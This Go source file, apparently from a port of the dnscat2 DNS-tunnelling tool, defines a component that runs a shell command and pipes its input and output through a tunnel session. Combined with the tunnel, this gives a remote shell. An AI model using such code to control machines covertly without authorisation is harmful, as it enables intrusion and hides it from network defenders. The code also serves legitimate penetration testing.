package stream

import (
	"fmt"
	"io"
	"os/exec"

	"github.com/fbion/dnscat2/internal/session"
	"github.com/fbion/dnscat2/internal/util"
)

// Exec bridges a session to a child process: the child's stdout/stderr go
// into the tunnel, delivered tunnel bytes go to its stdin.
type Exec struct {
	command string
	cmd     *exec.Cmd
	stdin   io.WriteCloser
	stdout  io.ReadCloser
}

// NewExec starts the given shell command and returns its front end.
func NewExec(command string) (*Exec, error) {
	cmd := exec.Command("sh", "-c", command)

	stdin, err := cmd.StdinPipe()
	if err != nil {
		return nil, fmt.Errorf("exec %q: %w", command, err)
	}
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		return nil, fmt.Errorf("exec %q: %w", command, err)
	}
	cmd.Stderr = cmd.Stdout

	if err := cmd.Start(); err != nil {
		return nil, fmt.Errorf("exec %q: %w", command, err)
	}
	util.LogInfo("exec: started %q (pid %d)", command, cmd.Process.Pid)

	return &Exec{command: command, cmd: cmd, stdin: stdin, stdout: stdout}, nil
}

// Attach starts pumping the child's output into the session.
func (e *Exec) Attach(s *session.Session) {
	go pump(e.stdout, s, "exec")
}

// Deliver writes received tunnel bytes to the child's stdin.
func (e *Exec) Deliver(data []byte) error {
	_, err := e.stdin.Write(data)
	return err
}

// Closed tears down the child process.
func (e *Exec) Closed(reason string) {
	util.LogWarning("exec session (%q) closed: %s", e.command, reason)
	e.stdin.Close()
	if e.cmd.Process != nil {
		e.cmd.Process.Kill()
	}
	go e.cmd.Wait()
}
